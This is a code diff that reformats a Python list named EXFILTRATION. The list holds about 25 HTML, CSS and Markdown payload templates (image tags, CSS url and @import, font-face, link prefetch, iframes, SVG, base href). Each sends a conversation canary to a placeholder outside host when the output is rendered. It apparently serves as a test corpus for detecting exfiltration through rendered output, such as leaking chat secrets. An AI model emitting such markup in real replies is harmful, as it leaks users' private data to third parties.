@@ -61,15 +61,18 @@ XSS = [*BROWSER, *_MARKDOWN, *(form.format(scheme) for form, scheme in product(_
 
 CANARY = "secret-of-the-conversation"
 EXFILTRATION = [
-    "![x]({out}/a?q={canary})", "![x][r]\n\n[r]: {out}/b?q={canary}", "<img src='{out}/c?q={canary}'>",
+    '![x]({out}/a?q={canary})', '![x][r]\n\n[r]: {out}/b?q={canary}', "<img src='{out}/c?q={canary}'>",
     "<img srcset='{out}/d?q={canary} 2x'>", "<picture><source srcset='{out}/e?q={canary}'><img></picture>",
-    "<div style='background:url({out}/f?q={canary})'>x</div>", "<style>*{{background:url({out}/g?q={canary})}}</style>",
-    "<style>@import '{out}/h?q={canary}'</style>",
-    "<style>@font-face{{font-family:z;src:url({out}/i?q={canary})}}*{{font-family:z}}</style>",
-    "<link rel=stylesheet href='{out}/j?q={canary}'>", "<link rel=prefetch href='{out}/k?q={canary}'>", "<link rel=icon href='{out}/l?q={canary}'>",
-    "<iframe src='{out}/m?q={canary}'></iframe>", "<object data='{out}/n?q={canary}'></object>", "<embed src='{out}/o?q={canary}'>",
-    "<video poster='{out}/p?q={canary}' src='{out}/q?q={canary}'></video>", "<audio src='{out}/r?q={canary}' autoplay></audio>",
-    "<svg><image href='{out}/s?q={canary}'/></svg>", "<svg><use href='{out}/t?q={canary}#x'/></svg>", "<input type=image src='{out}/u?q={canary}'>",
-    "<body background='{out}/v?q={canary}'>", "<table background='{out}/w?q={canary}'><tr><td>x</table>", "<track src='{out}/x?q={canary}'>",
-    "[click]({out}/y?q={canary}) <{out}/z?q={canary}> {out}/z?q={canary}", "<base href='{out}/'>![x](a?q={canary})",
+    "<div style='background:url({out}/f?q={canary})'>x</div>",
+    '<style>*{{background:url({out}/g?q={canary})}}</style>', "<style>@import '{out}/h?q={canary}'</style>",
+    '<style>@font-face{{font-family:z;src:url({out}/i?q={canary})}}*{{font-family:z}}</style>',
+    "<link rel=stylesheet href='{out}/j?q={canary}'>", "<link rel=prefetch href='{out}/k?q={canary}'>",
+    "<link rel=icon href='{out}/l?q={canary}'>", "<iframe src='{out}/m?q={canary}'></iframe>",
+    "<object data='{out}/n?q={canary}'></object>", "<embed src='{out}/o?q={canary}'>",
+    "<video poster='{out}/p?q={canary}' src='{out}/q?q={canary}'></video>",
+    "<audio src='{out}/r?q={canary}' autoplay></audio>", "<svg><image href='{out}/s?q={canary}'/></svg>",
+    "<svg><use href='{out}/t?q={canary}#x'/></svg>", "<input type=image src='{out}/u?q={canary}'>",
+    "<body background='{out}/v?q={canary}'>", "<table background='{out}/w?q={canary}'><tr><td>x</table>",
+    "<track src='{out}/x?q={canary}'>", '[click]({out}/y?q={canary}) <{out}/z?q={canary}> {out}/z?q={canary}',
+    "<base href='{out}/'>![x](a?q={canary})",
 ]  # fmt: skip
